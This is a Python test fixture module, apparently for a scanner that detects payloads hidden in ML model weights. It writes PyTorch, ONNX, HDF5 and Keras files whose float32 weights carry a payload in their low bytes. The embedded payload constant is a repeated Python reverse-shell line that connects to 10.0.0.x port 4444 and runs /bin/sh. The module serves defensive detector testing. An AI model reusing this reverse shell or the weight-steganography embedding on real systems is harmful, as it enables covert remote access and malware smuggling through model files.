"""Float weights for the `--deep` analysis: real random-normal weights, a payload written into their low
bytes (EvilModel's technique), and the files real libraries write around them (re-packed torch zips,
legacy torch files, ONNX external data, HDF5 and Keras weight files)."""

from __future__ import annotations

import os
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

SCRIPT = b"".join(
    f"import socket,subprocess;s=socket.socket();s.connect(('10.0.0.{i % 250}',4444));"
    f"subprocess.call(['/bin/sh','-i'],stdin=s.fileno())\n".encode()
    for i in range(400)
)
"""Text with no signature a scanner knows: only the statistics can see it (never run)."""


def normal_weights(n: int = 1 << 18, seed: int = 0) -> np.ndarray:
    return np.random.default_rng(seed).standard_normal(n).astype(np.float32) * 0.02


def embed_low_byte(weights: np.ndarray, payload: bytes, at: int = 0) -> np.ndarray:
    """EvilModel's simplest style: the payload replaces the low byte of consecutive float32 weights."""
    out = weights.copy()
    raw = out.view(np.uint8).reshape(-1, 4)
    raw[at : at + len(payload), 0] = np.frombuffer(payload, dtype=np.uint8)
    return out


# ---- PyTorch ----


def torch_deflated(directory: Path, tensors: dict[str, np.ndarray], name: str = "model.pt") -> Path:
    """A torch.save zip re-packed with every record deflated (torch.load reads it as it is)."""
    import torch

    stored = directory / "stored" / name  # same name: torch names the archive's folder after the file
    stored.parent.mkdir(exist_ok=True)
    torch.save({key: torch.from_numpy(value) for key, value in tensors.items()}, stored)
    path = directory / name
    with zipfile.ZipFile(stored) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info), compress_type=zipfile.ZIP_DEFLATED)
    stored.unlink()
    stored.parent.rmdir()
    return path


def torch_legacy(directory: Path, tensors: dict[str, np.ndarray], name: str = "model.pt") -> Path:
    """A legacy (pre-1.6 layout) torch.save file: five pickles, then the raw storages."""
    import torch

    path = directory / name
    state = {key: torch.from_numpy(value) for key, value in tensors.items()}
    torch.save(state, path, _use_new_zipfile_serialization=False)
    return path


# ---- ONNX ----


def onnx_model(initializers: dict[str, np.ndarray]) -> Any:
    """An ONNX ModelProto: the initializers, and an Identity node over the first of them."""
    import onnx
    from onnx import helper, numpy_helper

    inits = [numpy_helper.from_array(array, key) for key, array in initializers.items()]
    first = next(iter(initializers))
    node = helper.make_node("Identity", [first], ["out"])
    out = helper.make_tensor_value_info("out", onnx.TensorProto.FLOAT, list(initializers[first].shape))
    graph = helper.make_graph([node], "g", [], [out], initializer=inits)
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])


def onnx_external(
    directory: Path, initializers: dict[str, np.ndarray], name: str = "model.onnx", data: str = "weights.bin"
) -> Path:
    """An ONNX model whose initializers onnx.save wrote to a side file in the model's folder."""
    import onnx

    path = directory / name
    onnx.save(
        onnx_model(initializers), str(path), save_as_external_data=True, location=data, size_threshold=0
    )
    onnx.checker.check_model(str(path))
    return path


# ---- HDF5 and Keras ----


def hdf5_weights(
    directory: Path,
    datasets: dict[str, np.ndarray],
    name: str = "weights.h5",
    libver: str = "earliest",
    **options: object,
) -> Path:
    """A plain HDF5 file, one dataset per entry (`options` go to create_dataset: chunks, compression…)."""
    import h5py

    path = directory / name
    with h5py.File(path, "w", libver=libver) as f:
        for key, value in datasets.items():
            f.create_dataset(key, data=value, **options)  # type: ignore[arg-type]
    return path


KerasSave = Callable[[Path, np.ndarray], Path]


def hdf5_compact(directory: Path, name: str, values: np.ndarray) -> Path:
    """An HDF5 file with one compact dataset (its bytes inside the object header; at most 64 KiB)."""
    import h5py

    path = directory / "compact.h5"
    with h5py.File(path, "w") as f:
        dcpl = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
        dcpl.set_layout(h5py.h5d.COMPACT)
        space = h5py.h5s.create_simple(values.shape)
        dataset = h5py.h5d.create(f.id, name.encode(), h5py.h5t.IEEE_F32LE, space, dcpl=dcpl)
        dataset.write(h5py.h5s.ALL, h5py.h5s.ALL, np.ascontiguousarray(values, dtype="<f4"))
    return path


def _keras_model(kernel: np.ndarray, units: int) -> object:
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    inputs = kernel.size // units
    model = keras.Sequential(
        [keras.Input((inputs,)), keras.layers.Dense(units, name="dense")], name="sequential"
    )
    model.layers[0].set_weights([kernel.reshape(inputs, units), np.zeros(units, dtype=np.float32)])
    return model


def keras_h5(directory: Path, kernel: np.ndarray, units: int = 256, name: str = "model.h5") -> Path:
    """A real legacy Keras `.h5` save (torch backend) of one Dense layer holding `kernel`."""
    model = _keras_model(kernel, units)
    path = directory / name
    model.save(path)  # type: ignore[attr-defined]
    return path


def keras_v3(directory: Path, kernel: np.ndarray, units: int = 256, name: str = "model.keras") -> Path:
    """A real Keras v3 `.keras` archive (its weights in model.weights.h5) of one Dense layer."""
    model = _keras_model(kernel, units)
    path = directory / name
    model.save(path)  # type: ignore[attr-defined]
    return path
